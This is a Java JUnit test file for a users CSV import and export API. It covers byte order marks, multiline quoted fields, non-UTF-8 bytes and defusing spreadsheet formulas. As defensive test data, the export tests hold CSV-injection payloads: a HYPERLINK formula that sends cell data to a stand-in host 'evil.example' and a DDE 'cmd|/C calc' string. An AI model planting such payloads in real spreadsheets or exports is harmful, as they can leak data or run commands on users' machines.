package dev.offload.users;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.offload.testing.OffloadNodeExtension;
import dev.offload.testing.Tasks;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The CSV rules of users.import and users.export, through the API on a real node: a byte order
 * mark, line breaks in quoted fields, bytes that are not UTF-8, cells that spreadsheets would run.
 */
class UsersCsvTest {

  @RegisterExtension static final OffloadNodeExtension offload = OffloadNodeExtension.withNode();

  @Test
  void an_import_whose_file_begins_with_a_utf8_byte_order_mark_reads_its_header() throws Exception {
    // Excel's "CSV UTF-8" begins its files with EF BB BF.
    Buffer csv =
        Buffer.buffer(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF})
            .appendString("email,name\r\nann@example.com,Zoë Ann\r\n");

    JsonObject done = awaitFinal(upload(csv));

    assertEquals("completed", done.getString("state"), done.encode());
    assertEquals(1, done.getJsonObject("result").getLong("imported"));
    assertEquals(Map.of("ann@example.com", "Zoë Ann"), users());
  }

  @Test
  void quoted_fields_may_span_lines_also_across_chunks_and_later_lines_keep_their_numbers()
      throws Exception {
    // 20,000 records of three lines each: about 1.4 MiB, so a record is cut by the 1 MiB chunk.
    StringBuilder csv = new StringBuilder("email,name,notes\n");
    for (int i = 0; i < 20_000; i++) {
      csv.append("user")
          .append(i)
          .append("@example.com,\"Zoë ")
          .append(i)
          .append("\",\"first, with a comma\r\nsecond ✓\nthird \"\"quoted\"\"\"\n");
    }
    csv.append("not-an-email,Cid,x\n");

    JsonObject result = awaitFinal(upload(Buffer.buffer(csv.toString()))).getJsonObject("result");

    assertEquals(20_000, result.getLong("imported"), result.encode());
    assertEquals(List.of(60_002L), lines(result.getJsonArray("errors")));
    assertEquals(60_001, result.getLong("lines"));
    assertEquals("Zoë 19999", users().get("user19999@example.com"));
  }

  @Test
  void bytes_that_are_not_utf8_are_reported_on_their_line_and_the_other_lines_imported()
      throws Exception {
    Buffer csv =
        Buffer.buffer("email,name\nann@example.com,Ann\n")
            // Latin-1, as a spreadsheet saves "CSV" without UTF-8: é is the byte E9.
            .appendBytes("jose@example.com,José\n".getBytes(StandardCharsets.ISO_8859_1))
            .appendString("bob@example.com,Bob\n");

    JsonObject result = awaitFinal(upload(csv)).getJsonObject("result");

    assertEquals(2, result.getLong("imported"), result.encode());
    assertEquals(List.of(3L), lines(result.getJsonArray("errors")));
    assertEquals(
        "field 2 is not valid UTF-8 (byte 0xE9): save the file as UTF-8",
        result.getJsonArray("errors").getJsonObject(0).getString("reason"));
    assertEquals(Map.of("ann@example.com", "Ann", "bob@example.com", "Bob"), users());
  }

  @Test
  void an_export_neutralises_every_cell_that_a_spreadsheet_would_run_as_a_formula()
      throws Exception {
    create("link@example.com", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")");
    create("sum@example.com", "@SUM(1+1)*cmd|' /C calc'!A0");
    create("plus@example.com", "+1");
    create("minus@example.com", "-1");
    create("-dash@example.com", "Dash");
    // The API refuses control characters; rows from elsewhere (older data, SQL) may hold them.
    offload.sql(
        "INSERT INTO offload_user (email, name, created_at, updated_at) VALUES"
            + " ('tab@example.com', E'\\t=1+2', now(), now()),"
            + " ('cr@example.com', E'\\r=3+4', now(), now())");

    String file = exportCsv();

    assertTrue(
        file.contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\","), file);
    assertTrue(file.contains(",'@SUM(1+1)*cmd|' /C calc'!A0,"), file);
    assertTrue(file.contains(",'+1,"), file);
    assertTrue(file.contains(",'-1,"), file);
    assertTrue(file.contains(",'-dash@example.com,Dash,"), file);
    assertTrue(file.contains(",'\t=1+2,"), file);
    assertTrue(file.contains(",\"'\r=3+4\","), file);
    for (CsvRecord record : CsvTesting.read(file.getBytes(StandardCharsets.UTF_8))) {
      for (String cell : record.fields()) {
        assertFalse(cell.matches("(?s)[=+\\-@\t\r].*"), "a cell a spreadsheet would run: " + cell);
      }
    }
  }

  @Test
  void hostile_names_and_emails_survive_an_export_and_an_import_unchanged() throws Exception {
    Map<String, String> hostile = new LinkedHashMap<>();
    hostile.put("link@example.com", "=HYPERLINK(\"http://evil.example\",\"x\")");
    hostile.put("sum@example.com", "@SUM(1+1)");
    hostile.put("plus@example.com", "+1");
    hostile.put("minus@example.com", "-1");
    hostile.put("quoted@example.com", "'=already quoted");
    hostile.put("quotes@example.com", "''+two quotes");
    hostile.put("tis@example.com", "'Tis the season");
    hostile.put("apostrophe@example.com", "'");
    hostile.put("comma@example.com", "Doe, \"Jo\" 日本 😀");
    hostile.put("-dash@example.com", "Dash");
    hostile.put("'=quote@example.com", "Quote");
    hostile.forEach(UsersCsvTest::create);

    String file = exportCsv();
    assertTrue(file.contains(",''=already quoted,"), file);
    assertTrue(file.contains(",'Tis the season,"), file);
    offload.sql("DELETE FROM offload_user");
    JsonObject result = awaitFinal(upload(Buffer.buffer(file))).getJsonObject("result");

    assertEquals(hostile.size(), result.getLong("imported"), result.encode());
    assertEquals(hostile, users());
  }

  private static void create(String email, String name) {
    HttpResponse<Buffer> response =
        offload
            .client()
            .post("/users")
            .sendJsonObject(new JsonObject().put("email", email).put("name", name))
            .await();
    assertEquals(201, response.statusCode(), response.bodyAsString());
  }

  private static String exportCsv() throws InterruptedException {
    JsonObject done =
        offload.await(
            offload.submit(new JsonObject().put("kind", "users.export")),
            Duration.ofSeconds(30),
            Tasks.finished());
    assertEquals("completed", done.getString("state"), done.encode());
    return offload
        .client()
        .get("/tasks/" + done.getString("id") + "/result")
        .send()
        .await()
        .bodyAsString();
  }

  /** Every user, email to name, from {@code GET /users}. */
  private static Map<String, String> users() {
    Map<String, String> users = new LinkedHashMap<>();
    String page = "/users?limit=1000";
    while (page != null) {
      JsonObject body = offload.client().get(page).send().await().bodyAsJsonObject();
      for (Object user : body.getJsonArray("users")) {
        users.put(((JsonObject) user).getString("email"), ((JsonObject) user).getString("name"));
      }
      Object next = body.getValue("next");
      page = next == null ? null : "/users?limit=1000&after=" + next;
    }
    return users;
  }

  /** The lines of the errors. */
  private static List<Long> lines(JsonArray errors) {
    return errors.stream().map(e -> ((JsonObject) e).getLong("line")).toList();
  }

  private static String upload(Buffer csv) {
    HttpResponse<Buffer> response =
        offload
            .client()
            .post("/users/import")
            .putHeader("content-type", "text/csv")
            .sendBuffer(csv)
            .await();
    assertEquals(202, response.statusCode(), response.bodyAsString());
    return response.bodyAsJsonObject().getString("id");
  }

  private static JsonObject awaitFinal(String id) throws InterruptedException {
    return offload.await(id, Duration.ofSeconds(60), Tasks.finished());
  }
}
